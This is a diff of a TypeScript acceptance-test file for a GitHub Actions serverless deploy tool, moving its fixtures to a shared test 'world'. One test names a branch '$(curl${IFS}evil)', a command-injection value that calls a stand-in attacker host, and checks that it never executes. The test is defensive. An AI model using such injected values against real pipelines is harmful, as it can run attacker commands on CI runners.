@@ -3,48 +3,34 @@ import { tmpdir } from 'node:os';
 import { join, resolve as resolvePath } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { expectFailure, expectSuccess } from '../acceptance/verdict.ts';
-import { trustPolicyFromTemplate } from '../local-aws/trust/template.ts';
-import { createJob } from '../runner/job.ts';
-import type { WorkflowRun } from './deploy-job.ts';
-import { WITH_LINKED_CLI } from './linked-cli.ts';
-import { runPreview } from './preview-run.ts';
-import { type StandIns, startStandIns, WORKSHOP } from './stand-ins.ts';
-import { everyService } from './workshop-repository.ts';
+import { ACCOUNTS } from '../world/accounts.ts';
+import { everyService } from '../world/example.ts';
+import { WITH_LINKED_CLI } from '../world/linked-cli.ts';
+import { addRole } from '../world/roles.ts';
+import { runPreview, type WorkflowRun } from '../world/workflow.ts';
+import { startTeamWorld, type TeamWorld } from '../world/world.ts';
 
-const TEMPLATE = resolvePath(import.meta.dirname, '../../aws/github-oidc-role.yml');
 const CONFIGURATION = resolvePath(import.meta.dirname, '../../examples/workshop/serverless-stages.yml');
 
-let standIns: StandIns;
+let world: TeamWorld;
 beforeAll(async () => {
-  standIns = await startStandIns();
+  world = await startTeamWorld();
   addProd();
-}, 60_000);
-afterAll(() => standIns.close());
+});
+afterAll(() => world.close());
 
 /** The production account with the role that the template makes for its stage. */
 function addProd(): void {
-  const { aws, oidc } = standIns;
-  const account = '333333333333';
+  const { aws, oidc } = world;
+  const account = ACCOUNTS.prod;
   aws.providers.add({ account, url: oidc.issuer, audiences: ['sts.amazonaws.com'], jwksUri: oidc.jwksUri });
-  const trustPolicy = trustPolicyFromTemplate(readFileSync(TEMPLATE, 'utf8'), 'Role', {
-    RepositoryOwner: WORKSHOP.owner,
-    Repository: WORKSHOP.name,
-    RepositoryId: String(WORKSHOP.id),
-    OwnerId: String(WORKSHOP.ownerId),
-    App: 'workshop',
-    RoleName: 'serverless-stages',
-    Kind: 'configured',
-    Environment: 'prod',
-    Branch: 'prod',
-    'AWS::AccountId': account,
-  });
-  aws.roles.add({ arn: `arn:aws:iam::${account}:role/serverless-stages`, trustPolicy });
+  addRole(aws, account, 'serverless-stages', { Kind: 'configured', Environment: 'prod', Branch: 'prod' });
 }
 
 /** Makes a branch and opens a pull request of it. */
 async function openPull(branch: string, files: Readonly<Record<string, string>>): Promise<number> {
-  standIns.repository.push(branch, 'Change', files);
-  return (await standIns.github.pulls.open({ head: branch, base: 'master', title: 'Change' })).number;
+  world.repository.commit(branch, files, { message: 'Change' });
+  return (await world.github.pulls.open({ head: branch, base: 'master', title: 'Change' })).number;
 }
 
 /** The error annotations of all steps of a run. */
@@ -55,21 +41,9 @@ function errorsOf({ resolve, steps, posts }: WorkflowRun): string[] {
 
 /** Runs load-profile for a configured stage in a run of a pull request, whose job names an environment. */
 async function loadInPull(number: number, stage: string, environment: string, withIdToken: boolean) {
-  const { github, oidc, aws, repository } = standIns;
-  const pull = await github.pulls.find(number);
-  const ref = `refs/pull/${number}/merge`;
-  oidc.setClaims({ environment, ref, event_name: 'pull_request', head_ref: pull?.head });
-  const job = createJob({
-    workspace: repository.checkOut(pull?.headSha ?? ''),
-    event: { name: 'pull_request', payload: await github.eventFor(number, 'opened') },
-    ref,
-    repository: `${WORKSHOP.owner}/${WORKSHOP.name}`,
-    repositoryId: String(WORKSHOP.id),
-    githubApiUrl: github.url,
-    githubToken: github.token,
-    env: { AWS_ENDPOINT_URL: aws.url, AWS_EC2_METADATA_DISABLED: 'true' },
-    ...(withIdToken ? { idToken: { url: oidc.requestUrl, token: oidc.requestToken } } : {}),
-  });
+  const context = await world.pullRequestRun(number, 'opened');
+  const workspace = world.repository.workspace(world.repository.head(context.headRef ?? ''));
+  const job = world.job({ ...(withIdToken ? world.withIdToken(context, environment) : context), workspace });
   try {
     return await job.run({ action: 'load-profile', inputs: { stage } });
   } finally {
@@ -82,11 +56,15 @@ describe('one clear message', () => {
   it('is what an error of the configuration gives, with file, line, column and the nearest name', async () => {
     const number = await openPull('feature/typo', { 'frontend/a.txt': 'a\n' });
     const good = readFileSync(CONFIGURATION, 'utf8');
-    standIns.repository.push('master', 'A typo', {
-      'serverless-stages.yml': good.replace('    parameters:', '    paramters:'),
-    });
-    const run = await runPreview(standIns, number, 'synchronize', WITH_LINKED_CLI);
-    standIns.repository.push('master', 'Mended', { 'serverless-stages.yml': good });
+    world.repository.commit(
+      'master',
+      {
+        'serverless-stages.yml': good.replace('    parameters:', '    paramters:'),
+      },
+      { message: 'A typo' },
+    );
+    const run = await runPreview(world, number, 'synchronize', WITH_LINKED_CLI);
+    world.repository.commit('master', { 'serverless-stages.yml': good }, { message: 'Mended' });
     const { message, properties } = expectFailure(run.resolve, 'E_CONFIG');
     expect(message).toContain('paramters');
     expect(message).toMatch(/did you mean "?parameters/);
@@ -118,8 +96,8 @@ describe('one clear message', () => {
   it('E30 is what a resource that fails gives, with its reason and what became of the rest', async () => {
     const reason = 'rate(1 hour) is not allowed for this account';
     const number = await openPull('feature/failing', everyService('d'));
-    const fault = standIns.aws.faults.failResource({ type: 'AWS::Events::Rule', on: 'create', reason });
-    const run = await runPreview(standIns, number, 'opened', WITH_LINKED_CLI);
+    const fault = world.aws.faults.failResource({ type: 'AWS::Events::Rule', on: 'create', reason });
+    const run = await runPreview(world, number, 'opened', WITH_LINKED_CLI);
     fault.remove();
     const step = run.steps['deploy-service'];
     if (step === undefined) throw new Error(run.resolve.log);
@@ -148,13 +126,13 @@ describe('a branch whose name is a command', () => {
     const branch = '$(curl${IFS}evil)';
     const number = await openPull(branch, everyService('e'));
     const env = { PATH: `${bait}:${process.env['PATH']}` };
-    const run = await runPreview(standIns, number, 'opened', { ...WITH_LINKED_CLI, env });
+    const run = await runPreview(world, number, 'opened', { ...WITH_LINKED_CLI, env });
     expectSuccess(run.resolve);
     const { stage = '' } = run.resolve.outputs;
     expect(stage).toMatch(/^[a-z][a-z0-9-]*-[a-z0-9]{6}$/);
     for (const step of Object.values(run.steps)) expectSuccess(step);
     expect(run.steps['deploy-service']?.outputs['status']).toBe('deployed');
-    expect(standIns.aws.stacks.find(`workshop-tasks-${stage}`)?.status).toBe('UPDATE_COMPLETE');
+    expect(world.aws.stacks.find(`workshop-tasks-${stage}`)?.status).toBe('UPDATE_COMPLETE');
     // Markdown and HTML in the name would be active in the summary; the runner's commands in the log.
     expect(errorsOf(run)).toEqual([]);
     expect(existsSync(join(bait, 'taken'))).toBe(false);
